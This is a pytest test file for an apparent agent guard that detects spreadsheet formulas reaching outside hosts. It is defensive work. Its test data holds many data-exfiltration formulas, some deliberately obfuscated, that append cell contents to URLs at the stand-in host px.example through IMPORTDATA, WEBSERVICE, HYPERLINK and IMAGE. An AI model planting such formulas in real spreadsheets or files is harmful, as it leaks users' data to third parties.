"""Formulas of spreadsheets that reach out."""

from __future__ import annotations

import pytest
from cpu_time import takes_at_most_times

from lockgate.core.ruling.arguments import Leaf
from lockgate.core.ruling.effects.effects_of_call import effects_of
from lockgate.core.ruling.effects.formulas import read_formulas
from lockgate.core.ruling.tool_call import ToolCall

SENDS, SHOWS = "sends-data", "shows-remote-content"


def read(text: str) -> list[tuple[str, str]]:
    return [(found.kind, found.target) for found in read_formulas([Leaf("value", text)])]


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ('=IMPORTDATA("https://px.example/r?d="&B2)', SENDS),
        ('=importxml(CONCATENATE("https://px.example/",A1),"//a")', SENDS),
        ('=IFERROR(WEBSERVICE("https://px.example/"&A1),"")', SENDS),
        ('Name,Total\nAda,=HYPERLINK("https://px.example/?t="&B7,"open")', SENDS),
        ('@HYPERLINK("https://px.example/?t="&B7)', SENDS),
        ("ws['B2'] = '=IMAGE(\"https://px.example/o.png\")'", SHOWS),
        ('=IMPORTHTML("https://px.example/rates","table",1)', SHOWS),
        ('=IMPORTFEED("https://px.example/feed")', SHOWS),
        ('=HYPERLINK("https://px.example/report","Report")', SHOWS),
        ('=HYPERLINK("https://px.example/?a=1&b=2","Q&A")', SHOWS),
        ('=HYPERLINK("https://px.example/?a=1&" & A1,"Q")', SENDS),
        ('"=IMAGE(""https://px.example/""&A1)"', SENDS),
        ('- IMAGE ("https://px.example/o.png")', SHOWS),
        ('=\nIMPORTDATA(\n"https://px.example/"\n&A1)', SENDS),
        ('=LET(u,"https://px.example/?d="&A1,IMPORTDATA(u))', SENDS),
        ("=IMAGE(&quot;https://px.example/o.png&quot;)", SHOWS),
        ('=IMAGE("a"),=IMPORTDATA(\n"https://px.example/")', SHOWS),
        ('=HYPERLINK("https://px.example/report";"Report"),' * 200, SHOWS),
        ('var a="x"+image("https://px.example/a.png"),b=' + "1;" * 2000, SHOWS),
    ],
)
def test_a_formula_that_reaches_out_names_its_host(text: str, kind: str) -> None:
    assert read(text) == [(kind, "px.example")]


@pytest.mark.parametrize(
    "text",
    [
        "=SUM(B2:B9)",
        '=HYPERLINK("#Sheet2!A1","Totals")',
        '=IMPORTRANGE("1aBc","Sheet1!A1:C9")',
        '=IMAGE("http://localhost:8000/o.png")',
        'Use the function IMPORTDATA("https://px.example/r") for that.',
        'x = IMAGE("https://px.example/o.png")',
        "- an image (https://px.example/o.png) of the pier",
        "- Image (https://px.example/o.png)",
        "see https://px.example/report",
    ],
)
def test_other_formulas_and_prose_reach_nothing(text: str) -> None:
    assert read(text) == []


def test_a_formula_counts_in_every_tool_that_does_more_than_look() -> None:
    cell = '=IMPORTDATA("https://px.example/r?d="&B2)'

    def kinds(tool: str, **arguments: object) -> list[tuple[str, str]]:
        return [(found.kind, found.target) for found in effects_of(ToolCall(tool, arguments))]

    assert (SENDS, "px.example") in kinds("update_cell", cell="B3", value=cell)
    assert (SENDS, "px.example") in kinds("append_rows", rows=[["Ada", cell]])
    assert (SENDS, "px.example") in kinds("Write", file_path="out.csv", content=f"Ada,{cell}\n")
    assert kinds("search_docs", query=cell) == [("looks", "")]


@pytest.mark.parametrize(
    "text",
    [",=IMAGE(", "IMAGE(", ',=IMAGE("', 'a=IMAGE("', '+IMAGE("http://a.example/ ,', ',=IMAGE("http://a.example/"),'],
)
def test_a_long_text_of_formulas_is_read_in_linear_time(text: str) -> None:
    short, long = (text * size for size in (4_000, 32_000))
    assert takes_at_most_times(16, lambda: read(long), lambda: read(short), 0.05)


def test_formulas_behind_many_others_are_found_or_count_as_unreadable() -> None:
    evil = '=IMPORTDATA("https://px.example/")\n'
    for other in ("IMAGE(\n", '=IMAGE("a")\n'):
        assert read(other * 999 + evil) == [(SHOWS, "px.example")]
        assert read(other * 1000 + evil) == [("unreadable", "")]
    assert read("=IMPORTDATA(" + " " * 2000 + '"https://px.example/")') == [("unreadable", "")]
